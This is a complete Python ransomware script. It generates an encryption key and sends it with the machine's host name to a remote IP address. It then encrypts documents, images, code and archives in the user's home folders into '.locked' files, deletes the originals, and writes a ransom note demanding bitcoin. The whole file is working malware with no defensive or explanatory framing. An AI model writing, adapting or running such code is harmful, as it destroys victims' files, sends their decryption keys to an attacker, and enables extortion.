import os
from pathlib import Path

import requests
from cryptography.fernet import Fernet

ESCROW = "http://198.51.100.66/escrow"
EXT = {".doc", ".docx", ".xls", ".xlsx", ".pdf", ".jpg", ".png", ".csv", ".sql", ".py", ".js", ".md", ".zip"}
ROOTS = [Path.home() / d for d in ("Documents", "Desktop", "Pictures", "projects", "src")]


def targets():
    for root in ROOTS:
        for dp, _, files in os.walk(root):
            for name in files:
                p = Path(dp) / name
                if p.suffix.lower() in EXT:
                    yield p


key = Fernet.generate_key()
requests.post(ESCROW, data={"host": os.uname().nodename, "k": key.decode()}, timeout=10)
box = Fernet(key)
n = 0
for p in targets():
    try:
        p.with_suffix(p.suffix + ".locked").write_bytes(box.encrypt(p.read_bytes()))
        p.unlink()
        n += 1
    except OSError:
        pass
del key, box

note = Path.home() / "Desktop" / "RECOVER_FILES.txt"
note.write_text(f"{n} files were encrypted. To recover them send 0.05 BTC to "
                "bc1qexampleexampleexampleexample0000 and email recover@lockdesk.example with your host name.\n")
